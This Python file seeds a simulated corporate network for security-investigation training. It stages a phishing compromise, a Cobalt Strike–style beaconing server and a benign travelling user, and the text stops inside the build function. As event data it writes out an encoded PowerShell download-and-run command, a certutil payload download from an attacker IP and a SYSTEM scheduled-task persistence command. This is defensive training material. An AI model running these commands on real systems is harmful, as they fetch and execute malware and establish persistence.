"""The simulated estate: 36 hosts, 30 accounts, a week of logins, processes, connections and
SIEM events, threat intel, and the stories an investigator can follow through the lab API.

Stories (times are before the moment the estate was seeded):
1. Phished user (malicious). j.doe clicks a link to invoice-portal-secure.com (5h05m); on
   WS-FIN-07 winword.exe starts powershell.exe -enc (5h02m), which downloads invupd.exe, a
   known-malicious loader. From 3h39m a Tor exit in RU fails to sign in as j.doe four times,
   then succeeds after MFA pushes are approved (3h35m) and opens her mailbox.
2. Beaconing server (malicious). 18 hours ago a web shell on SRV-APP-03 dropped
   svchost_update.exe and a scheduled task for it; it has connected to cdn-update-check.net
   (45.77.12.9:443) about every 60 seconds ever since. Intel: Cobalt Strike.
3. Travelling manager (benign). m.lee signs in over VPN from Singapore for the last three
   days, on her managed laptop, with MFA, during a registered sales trip. No bad indicators.

Everything comes from one seeded random generator and times relative to the seeding moment,
so rebuilding gives the same estate shifted in time. `manage.py seed_lab` rebuilds it.
"""

import base64
import hashlib
import ipaddress
import random
from datetime import datetime, timedelta

from django.db import transaction
from django.utils import timezone

from toolserver.lab import faults
from toolserver.lab.models import (
    Account,
    Host,
    Indicator,
    LabEstate,
    LabWrite,
    Login,
    NetworkEvent,
    ProcessEvent,
    SiemEvent,
    Ticket,
)

SEED = 1042
# The tables a seed writes, parents first; and those it empties besides (tickets take their comments).
SEEDED = (Host, Account, Login, SiemEvent, ProcessEvent, NetworkEvent, Indicator, LabEstate)
EMPTIED = (Ticket, LabWrite)
DAYS = 7
COMPANY_DOMAIN = "corp.example"
OFFICE_IP = "81.2.69.142"  # the head office's internet address, as seen by SSO and VPN

# The stories' names, for demos and tests.
PHISHED_USER = "j.doe"
PHISHED_HOST = "WS-FIN-07"
PHISHED_HOST_ID = "H-1042"
PHISH_DOMAIN = "invoice-portal-secure.com"
PHISH_IP = "193.42.33.18"
PAYLOAD_SHA256 = "24699eafbd7ab0e4f37893c8c969e193e9a5f782882b782cd4d24650378abd26"
PAYLOAD_PATH = r"C:\Users\j.doe\AppData\Local\Temp\invupd.exe"
ATTACKER_IP = "185.220.101.47"
ATTACKER_COUNTRY = "RU"
BEACON_HOST = "SRV-APP-03"
BEACON_DOMAIN = "cdn-update-check.net"
BEACON_IP = "45.77.12.9"
BEACON_SHA256 = "5fb011915c4999327f84ab41dfb7e2f143205b33a7133b262354c7c16ca57517"
BEACON_IMAGE = r"C:\ProgramData\Microsoft\svchost_update.exe"
BEACON_INTERVAL_S = 60
BENIGN_USER = "m.lee"
BENIGN_HOST = "WS-SAL-02"
BENIGN_IP = "118.189.186.23"
BENIGN_COUNTRY = "SG"
DOMAIN_CONTROLLER = "DC-01"

# When each story happened, before the seeding moment.
PHISH_CLICK_AGO = timedelta(hours=5, minutes=5)
POWERSHELL_AGO = timedelta(hours=5, minutes=2)
ATTACKER_FIRST_FAILURE_AGO = timedelta(hours=3, minutes=39)
ATTACKER_LOGIN_AGO = timedelta(hours=3, minutes=35)
BEACON_START_AGO = timedelta(hours=18)
BEACON_ALERT_AGO = timedelta(minutes=40)
BENIGN_FIRST_LOGIN_AGO = timedelta(days=2, hours=20)

EVENT_KINDS = ("email_click", "av_alert", "dns_query", "vpn_login", "process_start", "password_change", "mfa_push")

# username, display name, department, title, privileged, mfa, workstation
ACCOUNTS = [
    ("p.wright", "Paul Wright", "finance", "Finance Manager", False, True, "WS-FIN-01"),
    ("s.khan", "Sara Khan", "finance", "Management Accountant", False, True, "WS-FIN-02"),
    ("l.moreau", "Luc Moreau", "finance", "Treasury Analyst", False, True, "WS-FIN-03"),
    ("t.nguyen", "Thu Nguyen", "finance", "Payroll Officer", False, True, "WS-FIN-04"),
    ("r.evans", "Rhys Evans", "finance", "Accounts Receivable Clerk", False, True, "WS-FIN-05"),
    ("c.baker", "Chloe Baker", "finance", "Financial Controller", False, True, "WS-FIN-06"),
    (PHISHED_USER, "Jane Doe", "finance", "Accounts Payable Clerk", False, True, PHISHED_HOST),
    ("d.cohen", "David Cohen", "sales", "Account Executive", False, True, "WS-SAL-01"),
    (BENIGN_USER, "Mei Lee", "sales", "Regional Sales Manager (APAC)", False, True, BENIGN_HOST),
    ("f.rossi", "Francesca Rossi", "sales", "Account Executive", False, True, "WS-SAL-03"),
    ("g.murphy", "Grace Murphy", "sales", "Sales Operations Analyst", False, True, "WS-SAL-04"),
    ("a.schmidt", "Anna Schmidt", "engineering", "Senior Software Engineer", False, True, "WS-ENG-01"),
    ("b.novak", "Boris Novak", "engineering", "Software Engineer", False, True, "WS-ENG-02"),
    ("e.garcia", "Elena Garcia", "engineering", "Engineering Manager", False, True, "WS-ENG-03"),
    ("h.tanaka", "Hiro Tanaka", "engineering", "Site Reliability Engineer", False, True, "WS-ENG-04"),
    ("k.osei", "Kwame Osei", "engineering", "QA Engineer", False, True, "WS-ENG-05"),
    ("n.patel", "Nina Patel", "hr", "HR Business Partner", False, True, "WS-HR-01"),
    ("o.brien", "Owen O'Brien", "hr", "Recruiter", False, True, "WS-HR-02"),
    ("r.singh", "Ravi Singh", "it", "Systems Administrator", False, True, "WS-IT-01"),
    ("v.kowalski", "Vera Kowalski", "it", "Service Desk Analyst", False, True, "WS-IT-02"),
    ("w.adeyemi", "Wale Adeyemi", "it", "Network Engineer", False, True, "WS-IT-03"),
    ("y.haddad", "Yasmin Haddad", "legal", "Legal Counsel", False, True, "WS-LEG-01"),
    ("z.ahmed", "Zara Ahmed", "marketing", "Marketing Specialist", False, True, "WS-MKT-01"),
    ("adm.r.singh", "Ravi Singh (admin)", "it", "Domain Administrator", True, True, None),
    ("adm.w.adeyemi", "Wale Adeyemi (admin)", "it", "Network Administrator", True, True, None),
    ("svc_backup", "Backup service", "it", "Service account: backups", True, False, None),
    ("svc_sql", "SQL Server service", "it", "Service account: SQL Server", False, False, None),
    ("svc_web", "Web application pool", "it", "Service account: IIS application pool", False, False, None),
    ("c.ellis", "Catherine Ellis", "finance", "Chief Financial Officer", False, True, None),
    ("i.morgan", "Ian Morgan", "executive", "Chief Executive Officer", False, True, None),
]

# hostname, host id, os, role, owner, ip, criticality
SERVERS = [
    (
        DOMAIN_CONTROLLER,
        "H-1001",
        "Windows Server 2022",
        "domain_controller",
        "it-infrastructure",
        "10.10.0.10",
        "critical",
    ),
    ("DC-02", "H-1002", "Windows Server 2022", "domain_controller", "it-infrastructure", "10.10.0.11", "critical"),
    ("SRV-APP-01", "H-1003", "Windows Server 2022", "server", "app-team", "10.10.1.21", "high"),
    ("SRV-APP-02", "H-1004", "Windows Server 2022", "server", "app-team", "10.10.1.22", "high"),
    (BEACON_HOST, "H-1005", "Windows Server 2019", "server", "app-team", "10.10.1.23", "high"),
    ("SRV-APP-04", "H-1006", "Windows Server 2022", "server", "app-team", "10.10.1.24", "medium"),
    ("SRV-DB-01", "H-1007", "Windows Server 2022", "server", "dba-team", "10.10.1.31", "critical"),
    ("SRV-DB-02", "H-1008", "Ubuntu 22.04 LTS", "server", "dba-team", "10.10.1.32", "high"),
    ("SRV-FILE-01", "H-1009", "Windows Server 2022", "server", "it-infrastructure", "10.10.1.41", "high"),
    ("SRV-MAIL-01", "H-1010", "Windows Server 2019", "server", "it-infrastructure", "10.10.1.51", "high"),
    ("SRV-VPN-01", "H-1011", "Rocky Linux 9", "server", "network-team", "10.10.1.61", "high"),
    ("SRV-SSO-01", "H-1012", "Windows Server 2022", "server", "it-infrastructure", "10.10.1.71", "critical"),
    ("SRV-BKP-01", "H-1013", "Windows Server 2022", "server", "it-infrastructure", "10.10.1.81", "high"),
]
FIRST_WORKSTATION_ID = 1036  # WS-FIN-07, the seventh workstation, is H-1042
DEPARTMENT_SUBNETS = {"finance": 30, "sales": 40, "engineering": 50, "hr": 60, "it": 70, "legal": 80, "marketing": 90}

# Everyday software: (image, command line template, typical domains)
App = tuple[str, str, list[str]]
WORKSTATION_APPS: list[App] = [
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        '"chrome.exe" --profile-directory=Default',
        ["www.google.com", "www.bbc.co.uk", "corp.sharepoint.com"],
    ),
    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", '"OUTLOOK.EXE"', ["outlook.office365.com"]),
    (
        r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe",
        '"Teams.exe" --system-initiated',
        ["teams.microsoft.com"],
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        '"EXCEL.EXE" "C:\\Users\\{user}\\Documents\\{doc}.xlsx"',
        [],
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        '"WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\{doc}.docx"',
        [],
    ),
    (r"C:\Program Files\Microsoft OneDrive\OneDrive.exe", '"OneDrive.exe" /background', ["onedrive.live.com"]),
]
ENGINEERING_APPS: list[App] = [
    (r"C:\Program Files\Git\cmd\git.exe", "git fetch origin", ["github.com"]),
    (
        r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe",
        '"Code.exe"',
        ["update.code.visualstudio.com"],
    ),
]
SERVER_APPS: dict[str, list[App]] = {
    "domain_controller": [(r"C:\Windows\System32\dcdiag.exe", "dcdiag /q", [])],
    "app": [(r"C:\Windows\System32\inetsrv\w3wp.exe", 'w3wp.exe -ap "orders" -v "v4.0"', ["api.stripe.com"])],
    "db": [
        (
            r"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe",
            "sqlservr.exe -sMSSQLSERVER",
            [],
        )
    ],
    "other": [(r"C:\Windows\System32\wuauclt.exe", "wuauclt.exe /detectnow", ["download.windowsupdate.com"])],
}
DOMAIN_IPS = {
    "www.google.com": "142.250.180.4",
    "www.bbc.co.uk": "151.101.0.81",
    "corp.sharepoint.com": "13.107.136.9",
    "outlook.office365.com": "52.97.146.162",
    "teams.microsoft.com": "52.113.194.132",
    "onedrive.live.com": "13.107.42.13",
    "github.com": "140.82.121.4",
    "update.code.visualstudio.com": "13.107.246.40",
    "api.stripe.com": "54.187.174.169",
    "download.windowsupdate.com": "13.107.4.50",
    "free-pdf-converter.io": "104.21.48.77",
    PHISH_DOMAIN: PHISH_IP,
    BEACON_DOMAIN: BEACON_IP,
}
DOCUMENTS = ["budget-q3", "forecast", "minutes", "proposal", "contract-draft", "timesheet", "report"]
SCANNER_IPS = [("61.177.172.140", "CN"), ("45.148.10.81", "NL"), ("177.54.144.20", "BR"), ("14.225.205.58", "VN")]


def image_sha256(image: str) -> str:
    """A stable stand-in hash for a benign, signed binary."""
    name = image.rsplit("\\", 1)[-1].lower()
    return hashlib.sha256(f"lab:benign:{name}".encode()).hexdigest()


def _encoded(command: str) -> str:
    """What PowerShell's -EncodedCommand takes: base64 of UTF-16LE."""
    return base64.b64encode(command.encode("utf-16-le")).decode()


POWERSHELL_COMMAND = r"powershell.exe -NoProfile -WindowStyle Hidden -enc " + _encoded(
    f"$u='https://{PHISH_DOMAIN}/cdn/update.bin';$p=\"$env:TEMP\\invupd.exe\";"
    "(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p"
)


class _Builder:
    """Collects the estate's rows in memory, then writes them in bulk."""

    def __init__(self, now: datetime, seed: int):
        self.now = now
        self.rng = random.Random(seed)  # noqa: S311 - a reproducible made-up estate, not a secret
        self.hosts: dict[str, Host] = {}
        self.accounts: dict[str, Account] = {}
        self.logins: list[Login] = []
        self.events: list[SiemEvent] = []
        self.processes: list[ProcessEvent] = []
        self.connections: list[NetworkEvent] = []
        self.indicators: list[Indicator] = []

    def ago(self, delta: timedelta | None = None, **parts) -> datetime:
        return self.now - (delta if delta is not None else timedelta(**parts))

    def login(self, at, user, host, ip, country, result, method):
        if at <= self.now:
            self.logins.append(
                Login(
                    at=at,
                    username=user,
                    hostname=host,
                    source_ip=ip,
                    source_country=country,
                    result=result,
                    method=method,
                )
            )

    def event(self, at, kind, host, user, summary):
        if at <= self.now:
            self.events.append(SiemEvent(at=at, kind=kind, hostname=host or "", username=user or "", summary=summary))

    def process(self, at, host, pid, ppid, image, command_line, user, sha256=None):
        if at <= self.now:
            self.processes.append(
                ProcessEvent(
                    host=self.hosts[host],
                    at=at,
                    pid=pid,
                    ppid=ppid,
                    image=image,
                    command_line=command_line,
                    username=user or "",
                    sha256=sha256 or image_sha256(image),
                )
            )

    def connection(self, at, host, pid, image, domain, port, bytes_out, ip=None):
        if at <= self.now:
            self.connections.append(
                NetworkEvent(
                    host=self.hosts[host],
                    at=at,
                    pid=pid,
                    image=image,
                    remote_ip=ip or DOMAIN_IPS[domain],
                    remote_domain=domain or "",
                    remote_port=port,
                    bytes_out=bytes_out,
                )
            )

    def pid(self) -> int:
        return self.rng.randrange(1200, 32000, 4)

    def home_ip(self) -> str:
        return str(ipaddress.ip_address("86.128.0.0") + self.rng.randrange(0, 2**20))


def _build_inventory(b: _Builder) -> None:
    for hostname, host_id, os_name, role, owner, ip, criticality in SERVERS:
        b.hosts[hostname] = Host(
            host_id=host_id,
            hostname=hostname,
            os=os_name,
            role=role,
            owner=owner,
            ip=ip,
            criticality=criticality,
            last_seen=b.ago(seconds=b.rng.randrange(5, 300)),
        )
    per_department: dict[str, int] = {}
    number = FIRST_WORKSTATION_ID
    for username, display, department, title, privileged, mfa, workstation in ACCOUNTS:
        b.accounts[username] = Account(
            username=username,
            display_name=display,
            email=f"{username}@{COMPANY_DOMAIN}",
            department=department,
            title=title,
            privileged=privileged,
            mfa=mfa,
        )
        if workstation:
            per_department[department] = per_department.get(department, 0) + 1
            b.hosts[workstation] = Host(
                host_id=f"H-{number}",
                hostname=workstation,
                os="Windows 11 Enterprise 23H2",
                role="workstation",
                owner=username,
                ip=f"10.20.{DEPARTMENT_SUBNETS[department]}.{10 + per_department[department]}",
                criticality="medium" if department in {"finance", "it"} else "low",
                last_seen=b.ago(seconds=b.rng.randrange(5, 600)),
            )
            number += 1


def _everyday_noise(b: _Builder) -> None:
    """A week of ordinary work: sign-ins, applications, browsing, DNS, the odd typo and scanner."""
    rng = b.rng
    for day in range(DAYS - 1, -1, -1):
        start = b.ago(days=day, hours=10)  # "the start of the working day", ten hours before now
        for username, _display, department, _title, _priv, mfa, workstation in ACCOUNTS:
            if username == BENIGN_USER and day <= 2:
                continue  # travelling: her days are written by the benign story
            if workstation:
                _workday(b, start, username, department, workstation, mfa)
        _admin_day(b, start)
        _server_day(b, start)
        for _ in range(rng.randrange(3, 7)):  # internet scanners trying common names on the VPN
            ip, country = rng.choice(SCANNER_IPS)
            b.login(
                start + timedelta(minutes=rng.randrange(0, 1440)),
                rng.choice(["admin", "administrator", "test", "vpn", "scan"]),
                "SRV-VPN-01",
                ip,
                country,
                "failure",
                "vpn",
            )
        for executive in ("c.ellis", "i.morgan"):
            at = start + timedelta(minutes=rng.randrange(0, 120))
            b.login(at, executive, "SRV-SSO-01", OFFICE_IP, "GB", "success", "sso")
            b.event(at, "mfa_push", None, executive, f"MFA push approved for {executive} from {OFFICE_IP} (GB)")
    # A few one-off, harmless events.
    b.event(
        b.ago(days=4, hours=6),
        "av_alert",
        "WS-MKT-01",
        "z.ahmed",
        "Defender: PUA:Win32/PdfConverterToolbar detected in Downloads\\free-pdf-converter-setup.exe; action: quarantined",
    )
    b.event(
        b.ago(days=4, hours=6, minutes=1),
        "dns_query",
        "WS-MKT-01",
        "z.ahmed",
        "WS-MKT-01 resolved free-pdf-converter.io -> 104.21.48.77",
    )
    b.event(
        b.ago(days=2, hours=3),
        "av_alert",
        "WS-IT-02",
        "v.kowalski",
        "Defender: Virus:DOS/EICAR_Test_File detected in C:\\Temp\\eicar.com; action: removed (service desk AV test)",
    )
    for username in ("s.khan", "b.novak", "o.brien"):
        b.event(
            b.ago(days=rng.randrange(1, DAYS), hours=rng.randrange(1, 8)),
            "password_change",
            DOMAIN_CONTROLLER,
            username,
            f"{username} changed their password (self-service, expiry reminder)",
        )


def _workday(b: _Builder, start: datetime, username: str, department: str, workstation: str, mfa: bool) -> None:
    rng = b.rng
    host = b.hosts[workstation]
    at = start + timedelta(minutes=rng.randrange(0, 60), seconds=rng.randrange(60))
    if rng.random() < 0.1:  # a mistyped password first
        b.login(at - timedelta(seconds=20), username, workstation, host.ip, "GB", "failure", "interactive")
    b.login(at, username, workstation, host.ip, "GB", "success", "interactive")
    b.login(at + timedelta(minutes=2), username, "SRV-SSO-01", OFFICE_IP, "GB", "success", "sso")
    if mfa:
        b.event(
            at + timedelta(minutes=2),
            "mfa_push",
            None,
            username,
            f"MFA push approved for {username} from {OFFICE_IP} (GB)",
        )
    explorer = b.pid()
    b.process(
        at + timedelta(seconds=5),
        workstation,
        explorer,
        4620,
        r"C:\Windows\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        username,
    )
    apps = WORKSTATION_APPS + (ENGINEERING_APPS if department == "engineering" else [])
    for image, command, domains in rng.sample(apps, k=min(len(apps), rng.randrange(3, 6))):
        started = at + timedelta(minutes=rng.randrange(1, 240), seconds=rng.randrange(60))
        pid = b.pid()
        image = image.format(user=username)
        b.process(
            started,
            workstation,
            pid,
            explorer,
            image,
            command.format(user=username, doc=rng.choice(DOCUMENTS)),
            username,
        )
        for domain in domains:
            b.connection(
                started + timedelta(seconds=rng.randrange(2, 30)),
                workstation,
                pid,
                image,
                domain,
                443,
                rng.randrange(900, 60000),
            )
            if rng.random() < 0.5:
                b.event(
                    started,
                    "dns_query",
                    workstation,
                    username,
                    f"{workstation} resolved {domain} -> {DOMAIN_IPS[domain]}",
                )
    if rng.random() < 0.3:
        clicked = at + timedelta(hours=rng.randrange(1, 7))
        b.event(
            clicked,
            "email_click",
            workstation,
            username,
            f"{username} clicked https://corp.sharepoint.com/sites/{department}/Shared%20Documents in an email from a colleague",
        )
    if rng.random() < 0.2:  # an evening at home on the VPN
        evening = start + timedelta(hours=11, minutes=rng.randrange(0, 90))
        ip = b.home_ip()
        b.login(evening, username, "SRV-VPN-01", ip, "GB", "success", "vpn")
        b.event(
            evening,
            "vpn_login",
            "SRV-VPN-01",
            username,
            f"{username} connected to the VPN from {ip} (GB) on managed laptop {workstation}",
        )


def _admin_day(b: _Builder, start: datetime) -> None:
    """IT's daily chores: admin sign-ins to servers, an inventory script, backups."""
    rng = b.rng
    admin_ws = b.hosts["WS-IT-01"]
    for target in rng.sample([h for h, *_ in SERVERS], k=3):
        b.login(
            start + timedelta(hours=rng.randrange(1, 8)),
            "adm.r.singh",
            target,
            admin_ws.ip,
            "GB",
            "success",
            "remote_interactive",
        )
    at = start + timedelta(hours=1, minutes=rng.randrange(0, 30))
    b.process(
        at,
        "WS-IT-01",
        b.pid(),
        4620,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1",
        "r.singh",
    )
    b.event(
        at,
        "process_start",
        "WS-IT-01",
        "r.singh",
        "powershell.exe -File C:\\Scripts\\inventory.ps1 (scheduled inventory script)",
    )
    backup = start + timedelta(hours=16)
    for target in ("SRV-DB-01", "SRV-FILE-01", "SRV-APP-01", BEACON_HOST):
        b.login(backup, "svc_backup", target, b.hosts["SRV-BKP-01"].ip, "GB", "success", "network")
        backup += timedelta(minutes=rng.randrange(5, 25))


def _server_day(b: _Builder, start: datetime) -> None:
    rng = b.rng
    for hostname, *_rest in SERVERS:
        host = b.hosts[hostname]
        kind = (
            "domain_controller"
            if host.role == "domain_controller"
            else ("app" if hostname.startswith("SRV-APP") else "db" if hostname.startswith("SRV-DB") else "other")
        )
        for image, command, domains in SERVER_APPS[kind]:
            at = start + timedelta(minutes=rng.randrange(0, 1440))
            user = {"app": "svc_web", "db": "svc_sql"}.get(kind, "SYSTEM")
            pid = b.pid()
            b.process(at, hostname, pid, 712, image, command, user)
            for domain in domains:
                for _ in range(rng.randrange(2, 5)):
                    b.connection(
                        at + timedelta(minutes=rng.randrange(0, 300)),
                        hostname,
                        pid,
                        image,
                        domain,
                        443,
                        rng.randrange(500, 8000),
                    )
        if hostname != "SRV-BKP-01":
            b.connection(
                start + timedelta(hours=16, minutes=rng.randrange(0, 60)),
                hostname,
                2288,
                r"C:\Program Files\Veeam\Endpoint Backup\Veeam.Agent.exe",
                "",
                10006,
                rng.randrange(10**8, 10**9),
                ip=b.hosts["SRV-BKP-01"].ip,
            )


def _phishing_story(b: _Builder) -> None:
    ws, user = PHISHED_HOST, PHISHED_USER
    click = b.ago(PHISH_CLICK_AGO)
    b.event(
        click,
        "email_click",
        ws,
        user,
        f"{user} clicked https://{PHISH_DOMAIN}/view/INV-8841 in an email from accounts@{PHISH_DOMAIN} "
        "(subject: 'Overdue invoice INV-8841 - final notice')",
    )
    b.event(click + timedelta(seconds=1), "dns_query", ws, user, f"{ws} resolved {PHISH_DOMAIN} -> {PHISH_IP}")
    chrome = 7412
    b.connection(click + timedelta(seconds=2), ws, chrome, WORKSTATION_APPS[0][0], PHISH_DOMAIN, 443, 1840)
    word, shell, payload = 8120, 8344, 8572
    opened = click + timedelta(minutes=2)
    b.process(
        opened,
        ws,
        word,
        chrome,
        WORKSTATION_APPS[4][0],
        f'"WINWORD.EXE" /n "C:\\Users\\{user}\\Downloads\\INV-8841.docm"',
        user,
    )
    spawned = b.ago(POWERSHELL_AGO)
    b.process(
        spawned, ws, shell, word, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", POWERSHELL_COMMAND, user
    )
    b.event(
        spawned,
        "process_start",
        ws,
        user,
        f"WINWORD.EXE started powershell.exe with an encoded command: {POWERSHELL_COMMAND[:90]}...",
    )
    b.connection(
        spawned + timedelta(seconds=3),
        ws,
        shell,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        PHISH_DOMAIN,
        443,
        612,
    )
    b.process(
        spawned + timedelta(seconds=9), ws, payload, shell, PAYLOAD_PATH, PAYLOAD_PATH, user, sha256=PAYLOAD_SHA256
    )
    b.event(
        spawned + timedelta(seconds=40),
        "av_alert",
        ws,
        user,
        "Defender behaviour alert: an Office application launched PowerShell with an encoded command "
        "(WINWORD.EXE -> powershell.exe -enc); action: none (audit mode)",
    )
    for minutes in (1, 6, 11):
        b.connection(
            spawned + timedelta(minutes=minutes),
            ws,
            payload,
            PAYLOAD_PATH,
            PHISH_DOMAIN,
            8443,
            b.rng.randrange(2000, 9000),
        )
    # Her password was phished too: the attacker signs in from a Tor exit after MFA fatigue.
    first_try = b.ago(ATTACKER_FIRST_FAILURE_AGO)
    for attempt in range(4):
        b.login(
            first_try + timedelta(seconds=50 * attempt),
            user,
            "SRV-SSO-01",
            ATTACKER_IP,
            ATTACKER_COUNTRY,
            "failure",
            "sso",
        )
    signed_in = b.ago(ATTACKER_LOGIN_AGO)
    for pushed, outcome in ((-120, "denied"), (-60, "timed out"), (-5, "approved")):
        b.event(
            signed_in + timedelta(seconds=pushed),
            "mfa_push",
            None,
            user,
            f"MFA push {outcome} for {user} from {ATTACKER_IP} ({ATTACKER_COUNTRY})",
        )
    b.login(signed_in, user, "SRV-SSO-01", ATTACKER_IP, ATTACKER_COUNTRY, "success", "sso")
    b.login(signed_in + timedelta(minutes=1), user, "SRV-MAIL-01", ATTACKER_IP, ATTACKER_COUNTRY, "success", "owa")


def _beacon_story(b: _Builder) -> None:
    host, web, cmd, certutil, schtasks, beacon = BEACON_HOST, 3312, 5128, 5132, 5140, 4412
    started = b.ago(BEACON_START_AGO)
    dropped = started - timedelta(minutes=6)
    b.process(
        b.ago(days=DAYS - 1, hours=12), host, web, 712, SERVER_APPS["app"][0][0], SERVER_APPS["app"][0][1], "svc_web"
    )
    b.process(
        dropped,
        host,
        cmd,
        web,
        r"C:\Windows\System32\cmd.exe",
        f"cmd.exe /c certutil -urlcache -split -f http://{BEACON_IP}/u.bin {BEACON_IMAGE}",
        "svc_web",
    )
    b.process(
        dropped + timedelta(seconds=1),
        host,
        certutil,
        cmd,
        r"C:\Windows\System32\certutil.exe",
        f"certutil -urlcache -split -f http://{BEACON_IP}/u.bin {BEACON_IMAGE}",
        "svc_web",
    )
    b.connection(
        dropped + timedelta(seconds=2), host, certutil, r"C:\Windows\System32\certutil.exe", "", 80, 410, ip=BEACON_IP
    )
    b.process(
        dropped + timedelta(minutes=1),
        host,
        schtasks,
        web,
        r"C:\Windows\System32\schtasks.exe",
        f'schtasks /create /tn "Microsoft\\Windows\\UpdateCheck" /tr {BEACON_IMAGE} /sc onstart /ru SYSTEM',
        "svc_web",
    )
    b.process(started, host, beacon, 712, BEACON_IMAGE, BEACON_IMAGE, "SYSTEM", sha256=BEACON_SHA256)
    b.event(
        started,
        "process_start",
        host,
        "SYSTEM",
        f"Scheduled task 'Microsoft\\Windows\\UpdateCheck' started {BEACON_IMAGE}",
    )
    at = started + timedelta(seconds=7)
    while at <= b.now:
        # Mostly small check-ins, now and then a larger upload when it had tasking.
        sent = b.rng.randrange(280, 520) if b.rng.random() < 0.97 else b.rng.randrange(4000, 60000)
        b.connection(at, host, beacon, BEACON_IMAGE, BEACON_DOMAIN, 443, sent)
        at += timedelta(seconds=BEACON_INTERVAL_S + b.rng.randrange(-4, 5))
    for hour in range(int(BEACON_START_AGO.total_seconds() // 3600)):
        b.event(
            started + timedelta(hours=hour, seconds=6),
            "dns_query",
            host,
            "SYSTEM",
            f"{host} resolved {BEACON_DOMAIN} -> {BEACON_IP}",
        )
    b.hosts[host].last_seen = b.ago(seconds=40)


def _benign_story(b: _Builder) -> None:
    """m.lee on a registered sales trip to Singapore: new country, same laptop, MFA, no bad indicators."""
    user, laptop = BENIGN_USER, BENIGN_HOST
    first = b.ago(BENIGN_FIRST_LOGIN_AGO)
    b.event(
        first - timedelta(minutes=1),
        "mfa_push",
        None,
        user,
        f"MFA push approved for {user} from {BENIGN_IP} ({BENIGN_COUNTRY})",
    )
    for day in range(3):
        at = first + timedelta(days=day, minutes=b.rng.randrange(0, 40) if day else 0)
        b.login(at, user, laptop, b.hosts[laptop].ip, "GB", "success", "interactive")
        b.login(at + timedelta(minutes=1), user, "SRV-VPN-01", BENIGN_IP, BENIGN_COUNTRY, "success", "vpn")
        b.event(
            at + timedelta(minutes=1),
            "vpn_login",
            "SRV-VPN-01",
            user,
            f"{user} connected to the VPN from {BENIGN_IP} (Singapore, {BENIGN_COUNTRY}) on managed laptop {laptop}; "
            "device posture compliant; MFA approved; travel registered: APAC Sales Summit, Singapore",
        )
        b.login(at + timedelta(minutes=3), user, "SRV-SSO-01", BENIGN_IP, BENIGN_COUNTRY, "success", "sso")
        pid = b.pid()
        b.process(at + timedelta(minutes=4), laptop, pid, 4620, WORKSTATION_APPS[1][0], '"OUTLOOK.EXE"', user)
        b.connection(
            at + timedelta(minutes=4, seconds=20),
            laptop,
            pid,
            WORKSTATION_APPS[1][0],
            "outlook.office365.com",
            443,
            24000,
        )


def _intel(b: _Builder) -> None:
    def add(kind, value, verdict, confidence, tags, days_ago, source="lab-intel"):
        first_seen = b.ago(days=days_ago) if days_ago is not None else None
        b.indicators.append(
            Indicator(
                kind=kind,
                value=value,
                verdict=verdict,
                confidence=confidence,
                tags=tags,
                first_seen=first_seen,
                source=source,
            )
        )

    add("hash", PAYLOAD_SHA256, "malicious", 95, ["loader", "qakbot", "phishing"], 12, "lab-intel/malware-feed")
    add(
        "ip",
        ATTACKER_IP,
        "malicious",
        90,
        ["tor-exit", "anonymizer", "credential-stuffing"],
        400,
        "lab-intel/tor-exits",
    )
    add(
        "domain",
        PHISH_DOMAIN,
        "malicious",
        92,
        ["phishing", "credential-harvesting", "newly-registered"],
        6,
        "lab-intel/phish-feed",
    )
    add("ip", PHISH_IP, "malicious", 80, ["phishing", "bulletproof-hosting"], 9, "lab-intel/phish-feed")
    add("hash", BEACON_SHA256, "malicious", 98, ["cobaltstrike", "beacon", "c2"], 30, "lab-intel/malware-feed")
    add("domain", BEACON_DOMAIN, "malicious", 94, ["cobaltstrike", "c2", "typosquat"], 21, "lab-intel/c2-tracker")
    add("ip", BEACON_IP, "malicious", 90, ["cobaltstrike", "c2", "vps"], 21, "lab-intel/c2-tracker")
    add("domain", "free-pdf-converter.io", "suspicious", 55, ["pua", "adware"], 90)
    add("ip", "104.21.48.77", "benign", 40, ["cdn", "cloudflare"], 700)
    for ip, _country in SCANNER_IPS:
        add("ip", ip, "suspicious", 60, ["scanner", "bruteforce"], 200, "lab-intel/honeypots")
    add("ip", BENIGN_IP, "benign", 60, ["isp", "singnet", "residential"], 1500)
    add("ip", OFFICE_IP, "benign", 99, ["corporate", "owned"], 2000, "lab-intel/internal")
    for domain, ip in DOMAIN_IPS.items():
        if domain not in {PHISH_DOMAIN, BEACON_DOMAIN, "free-pdf-converter.io"}:
            add("domain", domain, "benign", 95, ["popular", "saas"], 3000)
            add("ip", ip, "benign", 85, ["cloud", "saas"], 3000)
    images = {image.format(user="x") for image, *_ in WORKSTATION_APPS + ENGINEERING_APPS}
    images |= {image for apps in SERVER_APPS.values() for image, *_ in apps}
    # Signed system binaries are known-good files, even when an attacker runs them.
    images |= {
        r"C:\Windows\explorer.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\System32\certutil.exe",
        r"C:\Windows\System32\schtasks.exe",
    }
    for image in sorted(images):
        add("hash", image_sha256(image), "benign", 99, ["signed", "known-good"], 3000, "lab-intel/nsrl")


def _last_logins(b: _Builder) -> None:
    for login in b.logins:
        account = b.accounts.get(login.username)
        if account and login.result == "success" and (account.last_login is None or login.at > account.last_login):
            account.last_login = login.at


def build(now: datetime, seed: int = SEED) -> _Builder:
    """The estate's rows, unsaved, as they are at `now`."""
    b = _Builder(now, seed)
    _build_inventory(b)
    _everyday_noise(b)
    _phishing_story(b)
